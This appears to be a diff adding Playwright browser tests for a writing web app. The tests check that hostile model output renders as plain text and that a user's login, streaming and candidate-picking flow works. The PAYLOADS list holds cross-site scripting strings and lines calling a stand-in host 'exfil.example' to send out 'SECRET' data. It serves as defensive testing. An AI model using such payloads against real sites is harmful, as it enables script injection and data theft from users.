@@ -1,0 +1,191 @@
+"""The web studio in a real headless Chromium (Debian's, driven by Playwright) against a real
+`fabula serve`: hostile engine output stays text, and a writer's whole path works end to end.
+
+The engine is the fake one serving scripts from a file, so the server (another process) answers
+with exactly the payloads under test. Skipped where Chromium is not installed; `.ci/run`
+installs it, so CI always runs these.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from fabula.api.auth import create_key, set_password
+from fabula.personalize.profiles import ProfileStore
+from fabula.settings import Settings
+from tests.test_api import serve
+
+CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
+pytestmark = pytest.mark.skipif(
+    not Path(CHROMIUM).exists() and not os.environ.get("CI"), reason="Debian's chromium is not installed"
+)
+
+PAYLOADS = [
+    "<script>alert('script')</script>",
+    "<img src=x onerror=\"alert('img')\">",
+    "<svg onload=alert('svg')></svg>",
+    "[click me](javascript:alert('md-link'))",
+    "<a href=\"javascript:alert('link')\">a link</a>",
+    "![pixel](http://exfil.example/steal?data=SECRET)",
+    '<iframe src="http://exfil.example/frame"></iframe>',
+    "</pre><script>alert('breakout')</script><pre>",
+    "<style>@import url(http://exfil.example/css);</style>",
+]
+ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+    "--disable-quic",
+]
+
+
+def expect(locator: object) -> Any:
+    from playwright.sync_api import expect as playwright_expect
+
+    return playwright_expect(locator)  # type: ignore[arg-type]
+
+
+@pytest.fixture
+def browser() -> Iterator[object]:
+    playwright = pytest.importorskip("playwright.sync_api")
+    with playwright.sync_playwright() as p:
+        chromium = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        yield chromium
+        chromium.close()
+
+
+def _hostile_engine(tmp_path: Path, scripts: list[str], delay: float = 0.0) -> str:
+    path = tmp_path / "hostile-engine.json"
+    path.write_text(json.dumps({"scripts": scripts, "word_delay": delay}), encoding="utf-8")
+    return str(path)
+
+
+def _watch(page: object, base: str) -> tuple[list[str], list[str]]:
+    """Record every dialog (and dismiss it) and every request to another host."""
+    dialogs: list[str] = []
+    foreign: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))  # type: ignore[attr-defined]
+    page.on(  # type: ignore[attr-defined]
+        "request", lambda r: None if r.url.startswith(base) or r.url.startswith("data:") else foreign.append(r.url)
+    )
+    return dialogs, foreign
+
+
+def test_hostile_output_is_shown_as_text_with_no_dialog_and_no_request_elsewhere(
+    browser: object, fabula_home: Path, tmp_path: Path
+) -> None:
+    payload = " ".join(PAYLOADS)
+    model = _hostile_engine(tmp_path, [payload])
+    for base in serve(fabula_home, {"FABULA_ENGINE": "fake", "FABULA_MODEL": model}):
+        page = browser.new_page()  # type: ignore[attr-defined]
+        dialogs, foreign = _watch(page, base)
+        page.goto(base + "/")
+        page.wait_for_selector("#studio:not([hidden])")
+        page.select_option("#form", "fabula-story")
+        page.fill("#prompt", "Tell me a story. " + PAYLOADS[0])  # hostile prompt too (shown in the works list)
+        page.fill("#candidates", "2")
+        page.click("#go")
+        expect(page.locator("#status")).to_have_text("done", timeout=30_000)
+        page.click("#work-list li")
+        page.wait_for_selector("#work-view:not([hidden])")
+        page.wait_for_timeout(500)  # give any injected handler, image or frame its chance to fire
+        output = page.text_content("#output")
+        for marker in ("<script>", "onerror=", "javascript:", "exfil.example", "<iframe"):
+            assert marker in output, marker  # shown literally, as text
+        assert "javascript:" in page.text_content("#candidate-list")
+        assert "<script>" in page.text_content("#work-text")
+        # nothing became markup: no element the payloads could have made exists in the page
+        for selector in (
+            "script:not([src])",
+            "img",
+            "svg",
+            "iframe",
+            "a[href^='javascript']",
+            "#output *",
+            "#work-text *",
+        ):
+            assert page.query_selector_all(selector) == [], selector
+        assert dialogs == []
+        assert foreign == []
+        page.close()
+
+
+def test_sign_in_write_a_poem_watch_it_stream_pick_a_candidate_and_find_it(
+    browser: object, fabula_home: Path, tmp_path: Path
+) -> None:
+    settings = Settings(home=fabula_home)
+    profiles = ProfileStore(settings.db_url)
+    profiles.add_user("ada", {})
+    set_password(profiles.engine, "ada", "correct horse battery")
+    create_key(profiles.engine, "ada", "cli")  # a key exists: the server is in multi-user mode
+    verses = [
+        "Salt wind on the glass\nthe keeper counts the dark ships\none light answers back",
+        "Night tide, no answer\nher lamp turns above the rocks\nthe gulls keep their watch",
+        "Frost on the railing\nthe bell buoy rings for no one\nshe trims the wick twice",
+    ]
+    model = _hostile_engine(tmp_path, verses, delay=0.05)
+    for base in serve(fabula_home, {"FABULA_ENGINE": "fake", "FABULA_MODEL": model}):
+        page = browser.new_page()  # type: ignore[attr-defined]
+        dialogs, foreign = _watch(page, base)
+        page.goto(base + "/")
+        page.wait_for_selector("#login:not([hidden])")
+        page.fill("#login-user", "ada")
+        page.fill("#login-password", "wrong")
+        page.click("#login-form button")
+        expect(page.locator("#login-error")).to_have_text("wrong user or password")
+        page.fill("#login-password", "correct horse battery")
+        page.click("#login-form button")
+        page.wait_for_selector("#studio:not([hidden])")
+        assert "ada" in page.text_content("#who")
+
+        # one candidate streams: count the distinct texts the output shows before it is done
+        page.select_option("#form", "fabula-poem")
+        page.fill("#prompt", "the lighthouse at night")
+        page.fill("#candidates", "1")
+        # (polled from here: the page's CSP forbids the eval that in-page observers would need)
+        page.click("#go")
+        seen = set()
+        deadline = time.monotonic() + 30
+        while page.text_content("#status") != "done" and time.monotonic() < deadline:
+            seen.add(page.text_content("#output"))
+        assert len(seen - {""}) >= 3, f"the poem arrived in one piece, not as a stream: {seen}"
+        assert page.text_content("#output").strip()
+
+        # three candidates side by side; pick one that the ranker did not choose
+        page.fill("#candidates", "3")
+        page.click("#go")
+        expect(page.locator("#candidate-list .candidate")).to_have_count(3, timeout=30_000)
+        cards = page.query_selector_all("#candidate-list .candidate")
+        index = next(i for i, c in enumerate(cards) if "chosen" not in (c.get_attribute("class") or ""))
+        picked_text = cards[index].query_selector("pre").text_content()
+        cards[index].query_selector("button.pick").click()
+        expect(page.locator("#status")).to_have_text(f"picked candidate {index}")
+        assert page.text_content("#output") == picked_text
+
+        # the works list has it, and opening it shows the picked text and its provenance
+        page.wait_for_selector("#work-list li")
+        page.click("#work-list li >> nth=0")
+        expect(page.locator("#work-provenance")).to_contain_text('"picked_by": "ada"')
+        assert page.text_content("#work-text") == picked_text
+        assert dialogs == [] and foreign == []
+        page.close()
+
+
+def test_the_browser_tests_run_in_ci() -> None:
+    """CI installs Chromium, so there a missing browser is a failure, not a skip."""
+    if os.environ.get("CI"):
+        assert Path(CHROMIUM).exists(), "chromium is missing in CI: .ci/run installs it"
+    assert subprocess.run([sys.executable, "-c", "import playwright"], check=False).returncode == 0
